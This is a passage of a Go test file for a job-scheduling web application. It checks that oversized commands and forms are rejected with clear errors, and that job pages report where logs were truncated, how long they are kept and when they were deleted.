		if res.StatusCode != 200 || !regexp.MustCompile(`id="f-command"[^>]*maxlength="65536"`).MatchString(body) {
			t.Fatalf("form = %d: the command field does not stop at 65536 bytes", res.StatusCode)
		}
		token := s.csrf(ada, "/jobs/new")
		// In the page's order, as a browser sends it.
		huge := "csrf_token=" + url.QueryEscape(token) + "&project=default&name=train-1&command=" + strings.Repeat("a", 10<<20) + "&gpus=1"
		want := "Command: is longer than 65536 bytes, the most a command may be (put long inputs in a file)."
		for _, path := range []string{"/jobs", "/jobs/templates"} {
			res, body = s.send(ada, "POST", path, huge, nil)
			if res.StatusCode != http.StatusBadRequest || formErrorOf(body) != escape(want) {
				t.Errorf("POST %s with a 10 MB command: %d %q, want 400 saying %q", path, res.StatusCode, formErrorOf(body), want)
				continue
			}
			if !regexp.MustCompile(`id="f-command"[^>]*aria-invalid="true"`).MatchString(body) || !strings.Contains(body, `value="train-1"`) {
				t.Errorf("POST %s with a 10 MB command: the field is not marked, or the form lost its name", path)
			}
		}
		if n, err := st.JobCountsByState(ctx); err != nil || len(n) != 0 {
			t.Errorf("a command too long stored jobs: %v %v", n, err)
		}
		if tt, _ := st.JobTemplates(ctx, projectByName(t, st, "default").ID); len(tt) != 0 {
			t.Errorf("a command too long stored templates: %+v", tt)
		}

		// Another form is refused whole, as ever; so is the API's body.
		res, body = s.send(ada, "POST", "/tokens", "csrf_token="+url.QueryEscape(token)+"&name="+strings.Repeat("a", 2<<20), nil)
		if res.StatusCode != http.StatusBadRequest || !strings.Contains(body, "The form is larger than 1024 KiB") {
			t.Errorf("a token form of 2 MiB: %d, want the form refused as too large", res.StatusCode)
		}
		api, _, err := s.id.CreateToken(ctx, userByName(t, st, "ada"), "w", identity.ScopeWrite, 24*time.Hour)
		if err != nil {
			t.Fatal(err)
		}
		res, body = s.send(s.browser(), "POST", "/api/v1/jobs", `{"project": "default", "name": "x", "command": ["`+strings.Repeat("a", 10<<20)+`"]}`,
			map[string]string{"Authorization": "Bearer " + api})
		var e errorBody
		if err := json.Unmarshal([]byte(body), &e); err != nil || res.StatusCode != http.StatusBadRequest || e.Error.Field != "body" || !strings.Contains(e.Error.Message, "1024 KiB") {
			t.Errorf("a 10 MB command through the API: %d %s", res.StatusCode, body)
		}
	})
}

// Where a stream of an attempt reached the log limit, the logs panel says so beside
// the output that stops there, as the timeline does; under a log retention, an ended
// job's panel says until when its output is kept, and once deleted, when it was.
func TestJobPageSaysWhereTheLogWasCutOrDeleted(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, st *store.Store) {
		s := buildLoggedJobSite(t, st, io.Discard, func(c *dispatch.Config) { c.LogRetention = 90 * 24 * time.Hour })
		s.t = t
		ada := s.user("ada", "default", models.RoleMember)
		csrf := s.csrf(ada, "/jobs/new")
		res, _ := s.send(ada, "POST", "/jobs", jobForm(csrf).Encode(), nil)
		m := locationJob.FindStringSubmatch(res.Header.Get("Location"))
		if m == nil {
			t.Fatalf("submit = %d", res.StatusCode)
		}
		if _, body := s.send(ada, "GET", "/jobs/"+m[1], "", nil); strings.Contains(body, `data-testid="log-notices"`) || strings.Contains(body, `data-testid="log-kept"`) {
			t.Fatal("a queued job whose output was all kept says it was cut, or when it goes")
		}
		if res, body := s.send(ada, "POST", "/jobs/"+m[1]+"/cancel", "confirm=yes&csrf_token="+csrf, nil); res.StatusCode >= 400 {
			t.Fatalf("cancel = %d: %s", res.StatusCode, errorSection.FindString(body))
		}
		ended := jobByID(t, st, m[1])
		until := ended.FinishedAt.Add(90 * 24 * time.Hour).UTC().Format("2006-01-02 15:04 UTC")
		if _, body := s.send(ada, "GET", "/jobs/"+m[1], "", nil); !strings.Contains(body, `<p class="meta" data-testid="log-kept">This output is kept until `+until+`, then deleted: Download keeps a copy.</p>`) {
			t.Errorf("an ended job's page does not say its output is kept until %s:\n%s", until, body)
		}
		id := ended.ID
		cut := "stdout reached 64 MiB, the most kept of one stream: what it writes after is not kept"
		if err := st.NoteAttempt(context.Background(), id, 1, dispatch.ReasonLogLimit, cut); err != nil {
			t.Fatal(err)
		}
		deleted := "output deleted: a job's output is kept 90 days after it ends"
		if err := st.NoteAttempt(context.Background(), id, 1, dispatch.ReasonLogRetention, deleted); err != nil {
			t.Fatal(err)
		}
		evs, err := st.JobEvents(context.Background(), id)
		if err != nil {
			t.Fatal(err)
		}
		on := evs[len(evs)-1].CreatedAt.UTC().Format("2006-01-02 15:04:05 UTC")
		_, body := s.send(ada, "GET", "/jobs/"+m[1], "", nil)
		if want := `<div class="notice" data-testid="log-notices"><div>Attempt 1: ` + cut + `.</div><div>On ` + on + `, ` + html.EscapeString(deleted) + `.</div></div>`; !strings.Contains(body, want) {
			t.Errorf("the logs panel does not say where the output was cut and when it was deleted; want %s in\n%s", want, body)
		}
		if strings.Contains(body, `data-testid="log-kept"`) {
			t.Error("the page of a job whose output was deleted says until when it is kept")
		}
	})
}
